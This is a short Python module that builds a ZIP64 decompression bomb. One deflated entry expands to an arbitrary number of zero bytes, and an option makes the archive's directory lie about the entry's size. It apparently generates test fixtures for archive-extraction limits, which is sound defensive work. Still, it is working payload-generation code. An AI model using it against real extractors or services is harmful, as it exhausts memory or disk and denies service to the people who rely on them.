"""A ZIP bomb written in constant memory: one deflated entry of `size` zero bytes (ZIP64)."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

MiB = 1 << 20
# The deflate stream is one compressed MiB of zeros repeated (each piece ends with a full flush, so
# the pieces are byte-identical and independent), so nothing is compressed twice.
_ZEROS = bytes(MiB)


def _piece() -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(_ZEROS) + compressor.flush(zlib.Z_FULL_FLUSH)
    second = compressor.compress(_ZEROS) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert first == second  # a full flush resets the state: every piece is the same
    return first


def write_bomb(path: Path, name: str, size: int, *, declared: int | None = None) -> Path:
    """A ZIP at `path` whose entry `name` inflates to `size` zero bytes (a multiple of 1 MiB).

    `declared` is the size the directory claims (the true size unless given: a liar).
    """
    assert size % MiB == 0
    piece = _piece()
    crc = 0
    for _ in range(size // MiB):
        crc = zlib.crc32(_ZEROS, crc)
    compressed = len(piece) * (size // MiB) + 2
    claimed = size if declared is None else declared
    raw = name.encode()
    zip64 = struct.pack("<HHQQ", 1, 16, claimed, compressed)
    with path.open("wb") as out:
        out.write(
            struct.pack(
                "<IHHHHHIIIHH",
                0x04034B50,
                45,
                0,
                8,
                0,
                0x21,
                crc,
                0xFFFFFFFF,
                0xFFFFFFFF,
                len(raw),
                len(zip64),
            )
        )
        out.write(raw + zip64)
        for _ in range(size // MiB):
            out.write(piece)
        out.write(b"\x03\x00")  # an empty final block
        central_at = out.tell()
        extra = struct.pack("<HHQQQ", 1, 24, claimed, compressed, 0)
        out.write(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                45,
                45,
                0,
                8,
                0,
                0x21,
                crc,
                0xFFFFFFFF,
                0xFFFFFFFF,
                len(raw),
                len(extra),
                0,
                0,
                0,
                0o100644 << 16,
                0xFFFFFFFF,
            )
        )
        out.write(raw + extra)
        end_at = out.tell()
        central = end_at - central_at
        out.write(
            struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, 1, 1, central, central_at)
        )
        out.write(struct.pack("<IIQI", 0x07064B50, 0, end_at, 1))
        out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, 0xFFFFFFFF, 0xFFFFFFFF, 0))
    return path
